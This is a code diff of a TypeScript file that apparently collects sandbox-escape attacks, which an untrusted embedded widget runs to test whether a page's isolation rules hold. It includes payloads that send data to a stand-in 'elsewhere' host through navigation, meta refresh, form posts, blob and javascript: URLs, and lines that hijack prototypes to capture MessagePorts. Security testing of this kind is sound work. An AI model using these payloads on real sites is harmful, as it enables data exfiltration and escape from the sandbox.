@@ -1,5 +1,6 @@
 import { DOCUMENT_ATTACKS } from "./document_attacks.ts";
 import { NONCE_ATTACKS } from "./nonce_attacks.ts";
+import { PORT_ATTACKS } from "./port_attacks.ts";
 
 /** What a widget tries that the rules forbid. Each is the body of an async function; it returns whether it succeeded. */
 export const ATTACKS: { readonly [name: string]: string } = {
@@ -249,50 +250,7 @@ export const ATTACKS: { readonly [name: string]: string } = {
       RegExp.prototype.exec = exec;
     }
     return [...transfer.types].some((type) => type.toLowerCase().includes("downloadurl"));`,
-  "the port to the page by accessors of every object": `
-    const names = ["port", "ports", "send", "post", "postMessage", "request", "onRun", "signal", "capture", "once", "passive",
-      "get", "set", "value", "then", "detail", "transfer", "source", "session", "host", "control", "loadBatches", "onCard",
-      "defaultProps", "ref", "key", "props", "stateNode", "return", "memoizedState", "constructor", "toJSON", "default"];
-    let isTaken = false;
-    const note = (value) => void (isTaken ||= value instanceof MessagePort);
-    const own = names.filter((name) => !(name in Object.prototype));
-    for (const name of own) {
-      Object.defineProperty(Object.prototype, name, {
-        configurable: true,
-        get() { note(this); for (const key of Reflect.ownKeys(this ?? {})) try { note(this[key]); } catch {} },
-        set(value) { note(this); note(value); Reflect.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }); },
-      });
-    }
-    const { bind, call, apply } = Function.prototype;
-    const watch = (native) => function (...args) { note(this); note(args[0]); return Reflect.apply(native, this, args); };
-    Object.assign(Function.prototype, { bind: watch(bind), call: watch(call), apply: watch(apply) });
-    // Until the page has asked at least once whether the frame responds.
-    await new Promise((resolve) => setTimeout(resolve, 1200));
-    Object.assign(Function.prototype, { bind, call, apply });
-    for (const name of own) delete Object.prototype[name];
-    return isTaken;`,
-  "the port to the page by an accessor": `
-    const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
-    const { postMessage } = MessagePort.prototype;
-    let isTaken = false;
-    // React has ports of its own, with which it sends nothing.
-    MessagePort.prototype.postMessage = function (message, ...rest) {
-      isTaken ||= message !== null && message !== undefined;
-      return postMessage.call(this, message, ...rest);
-    };
-    Object.defineProperty(MessageEvent.prototype, "data", {
-      configurable: true,
-      get() {
-        const data = get.call(this);
-        isTaken ||= this.target instanceof MessagePort && data?.type !== undefined;
-        return data;
-      },
-    });
-    // Until the page has asked at least once whether the frame responds.
-    await new Promise((resolve) => setTimeout(resolve, 1200));
-    MessagePort.prototype.postMessage = postMessage;
-    Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get });
-    return isTaken;`,
+  ...PORT_ATTACKS,
   "addresses in an adopted stylesheet": `
     const sheet = new CSSStyleSheet();
     const url = (name) => "url(" + elsewhere + "/" + name + ")";
@@ -346,6 +304,7 @@ export const ATTACKS: { readonly [name: string]: string } = {
     const hasRun = await new Promise((resolve) => {
       addEventListener("message", ({ data }) => data === "secret" && resolve(true));
       frame.onload = () => setTimeout(() => resolve(false), 300);
+      setTimeout(() => resolve(false), 3000);
       element.append(frame);
     });
     return hasRun;`,
@@ -368,7 +327,9 @@ export const ATTACKS: { readonly [name: string]: string } = {
   "a notification": `return await Notification.requestPermission() === "granted";`,
   "features of the browser that nobody needs": `
     const harmless = /^(ch-|gamepad$|aria-notify$|unload$|sync-xhr$|media-playback-while-not-visible$)/;
-    return document.featurePolicy.allowedFeatures().some((name) => !harmless.test(name));`,
+    // Chromium has had these until 2026. They do nothing without requests.
+    const advertising = /^(attribution-reporting|join-ad-interest-group|private-aggregation|run-ad-auction|shared-storage)/;
+    return document.featurePolicy.allowedFeatures().some((name) => !harmless.test(name) && !advertising.test(name));`,
   "the browser's handler of a scheme": `
     navigator.registerProtocolHandler("web+secret", location.href + "?%s");
     return true;`,
@@ -412,29 +373,6 @@ export const ATTACKS: { readonly [name: string]: string } = {
     return false;`,
 };
 
-/** What a widget tries in order to send its frame elsewhere. Each is the body of a function. */
-export const NAVIGATIONS: { readonly [name: string]: string } = {
-  "location.href": `location.href = elsewhere + "/?secret";`,
-  "location.assign to the API": `location.assign("/api/daily-pages/v2/batches?secret=1");`,
-  "a refresh": `
-    const meta = document.createElement("meta");
-    meta.httpEquiv = "refresh";
-    meta.content = "0;url=" + elsewhere + "/?secret";
-    document.head.append(meta);`,
-  "a javascript address": `location.href = "javascript:parent.stolen=1";`,
-  "a document of its own": `
-    location.href = URL.createObjectURL(new Blob(["<script>new Image().src='" + elsewhere + "'</script>"], { type: "text/html" }));`,
-  "a reload": `location.reload();`,
-  "its own address": `location.search = "?again";`,
-  "a form": `
-    const form = document.createElement("form");
-    Object.assign(form, { action: elsewhere + "/form", method: "post" });
-    form.innerHTML = "<input name=secret value=1>";
-    document.body.append(form);
-    form.submit();`,
-  "a data address": `location.href = "data:text/html,<img src=" + elsewhere + ">";`,
-};
-
 /** The attacks that make an open page leave. */
 export const LEAVING = [
   "a document of its own by a document that is opened again",
@@ -452,9 +390,15 @@ export const LEAVING = [
  * A widget that runs the attacks after it is mounted, and shows as JSON which succeeded.
  *
  * @param without the names of attacks that are left out
+ * @param list the attacks
  */
-export function attackingWidget(origin: string, elsewhere: string, without: readonly string[] = []): string {
-  const attacks = Object.entries(ATTACKS).filter(([name]) => !without.includes(name)).map(([name, body]) =>
+export function attackingWidget(
+  origin: string,
+  elsewhere: string,
+  without: readonly string[] = [],
+  list: { readonly [name: string]: string } = ATTACKS,
+): string {
+  const attacks = Object.entries(list).filter(([name]) => !without.includes(name)).map(([name, body]) =>
     `${JSON.stringify(name)}: async (element, origin, elsewhere) => {${body}}`
   );
   return `
@@ -481,16 +425,5 @@ export function attackingWidget(origin: string, elsewhere: string, without: read
       return createElement("div", null,
         createElement("div", { ref: element }),
         results === null ? null : createElement("pre", { "data-results": "" }, JSON.stringify(results)));
-    }`;
-}
-
-/** A widget that sends its frame elsewhere when it is mounted. */
-export function navigatingWidget(body: string, elsewhere: string): string {
-  return `
-    import { useEffect } from "react";
-    const elsewhere = ${JSON.stringify(elsewhere)};
-    export default function Navigate() {
-      useEffect(() => {${body}}, []);
-      return "leaving";
     }`;
 }
